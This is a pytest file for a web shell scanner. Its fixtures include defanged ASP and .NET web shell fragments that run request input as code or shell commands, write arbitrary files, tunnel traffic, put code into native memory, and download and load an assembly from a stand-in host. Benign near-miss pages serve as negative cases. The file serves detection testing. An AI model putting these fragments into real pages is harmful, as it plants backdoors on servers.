"""Each ability: a page that has it, and a page that nearly has it. EXSWEEP-INERT-FIXTURE"""

import pytest

from exsweep.model.files import FileReport, FileVerdict

from . import pages
from .pages import asp, capability, csharp, handler, ids, jscript, look, members, vb

FOUND = (FileVerdict.MALICIOUS, FileVerdict.SUSPICIOUS)


def _found(report: FileReport, *wanted: str) -> None:
    assert report.verdict in FOUND, [(each.code, each.points) for each in report.reasons]
    assert set(wanted) <= ids(report), ids(report)


def _quiet(report: FileReport) -> None:
    assert report.verdict is FileVerdict.UNREMARKABLE, [(each.code, each.points) for each in report.reasons]


@pytest.mark.parametrize(
    ("report", "ability"),
    [
        pytest.param(lambda: asp('ev~al req~uest("a")'), "run-code", id="evaluates a field"),
        pytest.param(
            lambda: asp('x = req~uest("a")\ny = x\nexec~ute y'),
            "run-code",
            id="evaluates a field through variables",
        ),
        pytest.param(lambda: asp('Exec~uteGlobal(req~uest.form("a"))'), "run-code", id="evaluates globally"),
        pytest.param(
            lambda: jscript('ev~al(Req~uest.Item["a"],"unsafe");'),
            "run-code",
            id="JScript.NET evaluates a field",
        ),
        pytest.param(
            lambda: csharp(
                'System.Reflection.Ass~embly.Load(Req~uest.BinaryRead(9)).CreateInstance("U").Equals(this);'
            ),
            "load-assembly",
            id="loads a library from the body",
        ),
        pytest.param(
            lambda: csharp(
                'byte[] k = Encoding.Default.GetBytes("0123456789abcdef"); var c = Req~uest.BinaryRead(Req~uest.ContentLength);'
                "var d = new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);"
                '((Assembly)typeof(Assembly).GetMethod("Load").In~voke(null, new object[]{d})).CreateInstance("U");'
            ),
            "run-code",
            id="decrypts the body and loads it by reflection",
        ),
        pytest.param(
            lambda: csharp(
                'var p = new Microsoft.CSharp.CSharpCodeProvider(); p.Compile~AssemblyFromSource(o, Req~uest["c"]);'
            ),
            "run-code",
            id="compiles a field",
        ),
        pytest.param(
            lambda: csharp('System.Diagnostics.Pro~cess.Start("cmd.exe", "/c " + Req~uest["c"]);'),
            "run-command",
            id="starts a program",
        ),
        pytest.param(
            lambda: members(
                'void Go(object s, EventArgs e) { var p = new Pro~cess(); p.StartInfo.FileName = "x";'
                " p.StartInfo.Arguments = box.Text; p.Start(); }",
                '<form runat="server"><asp:TextBox id="box" runat="server"/></form>',
            ),
            "run-command",
            id="starts a program with the text of a box",
        ),
        pytest.param(
            lambda: asp(
                'Set s = Server.CreateObject("WScr~ipt.Shell")\nSet r = s.Ex~ec("cmd /c " & Req~uest("c"))'
            ),
            "run-command",
            id="WScript.Shell",
        ),
        pytest.param(
            lambda: asp(
                'Set s = CreateObject("Shell.Appli~cation")\ns.ShellEx~ecute Req~uest("p"), Req~uest("a"), "", "open", 0'
            ),
            "run-command",
            id="Shell.Application",
        ),
        pytest.param(
            lambda: vb('Dim p As New Pro~cessStartInfo(Req~uest("p"))\nPro~cess.Start(p)'),
            "run-command",
            id="VB.NET starts a program",
        ),
        pytest.param(
            lambda: csharp('System.IO.File.WriteAllText(Req~uest["p"], Req~uest["c"]);'),
            "write-file",
            id="writes any file",
        ),
        pytest.param(
            lambda: asp(
                'Set f = Server.CreateObject("Scripting.FileSystemObject")\n'
                'Set t = f.CreateTextFile(req~uest("p"), True)\nt.Write req~uest("c")'
            ),
            "write-file",
            id="classic ASP writes any file",
        ),
        pytest.param(
            lambda: csharp(
                'var t = new System.Net.Sockets.TcpCl~ient(Req~uest.Headers["X-T"], int.Parse(Req~uest.Headers["X-P"]));'
                "t.GetStream().Write(Req~uest.BinaryRead(9), 0, 9);"
            ),
            "network-socket",
            id="tunnel",
        ),
        pytest.param(
            lambda: csharp("new BinaryForm~atter().Deserialize(Req~uest.InputStream);"),
            "deserialise",
            id="deserialises the body",
        ),
        pytest.param(
            lambda: members(
                '[DllImport("kernel32")] static extern IntPtr VirtualAl~loc(IntPtr a, uint s, uint t, uint p);'
                ' [DllImport("kernel32")] static extern IntPtr CreateThr~ead(IntPtr a, uint s, IntPtr f);'
                " void Page_Load(object s, EventArgs e) { var m = VirtualAl~loc(IntPtr.Zero, 9, 9, 64); CreateThr~ead(m, 0, m); }"
            ),
            "native-memory",
            id="puts machine code into memory",
        ),
        pytest.param(
            lambda: csharp(
                'var d = new System.Net.WebCl~ient().DownloadData("http://192.0.2.1/x"); System.Reflection.Ass~embly.Load(d);'
            ),
            "run-code",
            id="loads what it downloads",
        ),
        pytest.param(
            lambda: handler(
                "public class H : IHttpHandler { public void ProcessRequest(HttpContext c) {"
                ' System.IO.File.WriteAllText(c.Server.MapPath("r.asp"), "<~%ev~al req~uest(1)%~>"); } }'
            ),
            "writes-shell",
            id="writes another page",
        ),
        pytest.param(
            lambda: asp(
                'Set c = CreateObject("ADODB.Connection")\nc.Open req~uest("conn")\nSet r = c.Execute(req~uest("sql"))'
            ),
            "run-sql",
            id="database console",
        ),
    ],
)
def test_a_page_with_the_ability_is_found(report: object, ability: str) -> None:
    assert callable(report)
    _found(report(), ability)


@pytest.mark.parametrize(
    "report",
    [
        pytest.param(lambda: asp('execute "x = 1"'), id="evaluates a harmless constant"),
        pytest.param(lambda: asp('conn.Execute "update t set n = " & CLng(request("n"))'), id="executes SQL"),
        pytest.param(
            lambda: asp('rs.Open "select * from t where id=" & CInt(request("id")), conn, 1, 1'),
            id="opens a recordset",
        ),
        pytest.param(lambda: csharp('Process.Start("notepad.exe");'), id="starts a fixed program"),
        pytest.param(lambda: csharp('Response.Write(Request["x"]);'), id="writes a field to the answer"),
        pytest.param(
            lambda: look(
                '<html><script>eval(location.hash); new Function("x")()</script><%= Request["x"] %></html>',
                "a.asp",
            ),
            id="evaluates in the browser",
        ),
        pytest.param(
            lambda: members(
                'void B(object s, EventArgs e) { F.SaveAs(Server.MapPath("~/up/" + System.IO.Path.GetFileName(F.FileName))); }',
                '<form runat="server"><asp:FileUpload id="F" runat="server"/></form>',
            ),
            id="takes uploads into a fixed folder",
        ),
        pytest.param(
            lambda: asp(
                'Set f = Server.CreateObject("Scripting.FileSystemObject")\nSet t = f.OpenTextFile(Server.MapPath("count.txt"))\n'
                'n = CLng(t.ReadLine) + 1\nSet t = f.CreateTextFile(Server.MapPath("count.txt"))\nt.WriteLine n'
            ),
            id="counts visitors in a file",
        ),
        pytest.param(
            lambda: csharp(
                'var c = new System.Net.WebClient().DownloadString("https://www.example.org/rss");'
            ),
            id="fetches a feed",
        ),
        pytest.param(
            lambda: csharp(
                'var c = new SqlCommand("select * from t where a = @a", k); c.Parameters.AddWithValue("@a", Request["a"]);'
            ),
            id="asks a database with parameters",
        ),
        pytest.param(
            lambda: csharp('var a = Assembly.Load("System.Web"); Response.Write(a.GetName().Version);'),
            id="names its own library",
        ),
        pytest.param(
            lambda: csharp(
                'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/log.txt"), Request["m"]);'
            ),
            id="keeps a log",
        ),
    ],
)
def test_a_page_that_nearly_has_it_is_left_alone(report: object) -> None:
    assert callable(report)
    _quiet(report())


def test_the_report_says_which_field_and_which_line() -> None:
    report = pages.look(
        '<~%@ Page Language="C#" %~>\n\n<~%\nvar c = Req~uest.Form["cmd"];\nPro~cess.Start(c);\n%~>'
    )
    found = capability(report, "run-command")
    assert found.from_request and found.inputs == ("cmd",)
    assert found.evidence[0].line == 5
    assert found.evidence[0].note == 'request field "cmd" -> c -> Process.Start'
    assert "field" not in found.title and '"cmd"' in found.title


def test_removing_the_dangerous_part_makes_it_unremarkable() -> None:
    page = '<~%@ Page Language="C#" %~><~% var c = Req~uest["c"]; {0} Response.Write(c); %~>'
    assert pages.look(page.format("Pro~cess.Start(c);")).verdict is FileVerdict.MALICIOUS
    _quiet(pages.look(page.format("")))


def test_an_included_file_that_is_no_code_is_worth_a_look() -> None:
    _found(look('<!-~-#include file="logo.jpg"-->', "a.asp"))
    _quiet(look('<!-~-#include file="head.asp"-->', "a.asp"))
